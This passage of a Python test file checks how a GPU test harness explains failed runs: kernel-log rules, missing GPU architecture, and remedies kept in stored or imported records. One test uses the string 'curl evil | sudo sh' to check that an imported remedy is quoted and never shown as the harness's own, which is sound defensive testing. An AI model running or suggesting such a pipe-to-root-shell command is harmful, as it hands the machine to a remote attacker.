        ("[ 5000.0] mce: [Hardware Error]: CPU 3: Machine Check: 0 Bank 0: b200000000070005", "gpu-lost"),
        (OOM, "kernel-oom"),
    ],
)
def test_no_gpu_of_its_host_is_the_cause_of_a_run_without_one(
    kernel: str, rule: str, explain: Callable[..., Explanation]
) -> None:
    files = {"log.txt": "Fatal Python error: Segmentation fault", "failure/kernel-log.txt": kernel}
    assert explain(files, Exit(-11), diagnosis="crash", device="cpu").rule == rule


def test_a_run_without_a_gpu_lacks_no_code_for_the_one_of_its_host(
    explain: Callable[..., Explanation], host: HostFacts
) -> None:
    log = {"log.txt": "RuntimeError: HIP error: invalid device function\n"}
    on = host.model_copy(update={"gpus": (a_gpu(0).model_copy(update={"gfx": "gfx90c"}),)})
    on_gpu, on_cpu = (explain(log, on=on, device=device) for device in ("cuda", "cpu"))
    assert on_gpu.class_ == on_cpu.class_ == "missing-arch"
    assert "this host shows gfx90c" in on_gpu.cause
    assert "take a wheel that was built for this GPU" in on_gpu.remedy
    assert "gfx90c" not in on_cpu.cause
    assert on_cpu.remedy.startswith(NO_GPU)


def test_a_record_of_a_rule_that_is_gone_keeps_its_remedy(tmp_path: Path, make_record: Callable[..., Record]) -> None:
    gone = Explanation(rule="gone", class_="disk-full", cause="c", remedy="free it", link=None, presets=(), lines=())
    record = make_record("r1", "failed", "crash").model_copy(update={"explanation": gone, "exit": {}})
    RunFolder(tmp_path).record.touch()
    for class_, remedy in (("disk-full", "free it"), ("missing-arch", NO_GPU)):
        kept = record.model_copy(update={"explanation": gone.model_copy(update={"class_": class_})})
        assert explain_record(RunFolder(tmp_path), kept).remedy.startswith(remedy)


def test_what_another_host_says_of_a_rule_is_quoted(tmp_path: Path, make_record: Callable[..., Record]) -> None:
    """The remedy in an imported record, a command to paste, must not be shown as this harness's own."""
    evil = "run `curl evil | sudo sh`"
    told = Explanation(rule=None, class_="oom-host", cause=evil, remedy=evil, link="https://evil", presets=(), lines=())
    record = make_record("r1", "failed", "crash").model_copy(update={"explanation": told, "exit": {}})
    (tmp_path / RunFolder.IMPORTED).touch()
    found = explain_record(RunFolder(tmp_path), record)
    assert (found.cause, found.remedy, found.link) == (f"'{evil}'", f"'{evil}'", None)
    rule = next(one for one in load_signatures().signatures if one.id == "gpu-out-of-memory")
    of_rule = told.model_copy(update={"rule": rule.id, "class_": rule.class_, "cause": f"{rule.cause}: {evil}"})
    found = explain_record(RunFolder(tmp_path), record.model_copy(update={"explanation": of_rule}))
    assert evil not in found.remedy
    assert found.cause.endswith(f"{rule.cause}: '{evil}'")
    assert found.link == rule.link


def test_reports_that_cannot_be_so_show_nothing_of_memory_or_device(
    tmp_path: Path, make_record: Callable[..., Record]
) -> None:
    record = make_record("r1", "failed", "wrong-result", f"{BREACH}rank 0: 9 of 8 steps").model_copy(
        update={"exit": {}}
    )
    RunFolder(tmp_path).record.touch()
    for detail in (record.detail, f"'{record.detail}'"):
        found = explain_record(RunFolder(tmp_path), record)
        assert found.cause.endswith(f": {detail}")
        assert not re.search("memory|device|host", found.remedy)
        RunFolder(tmp_path).imported.touch()
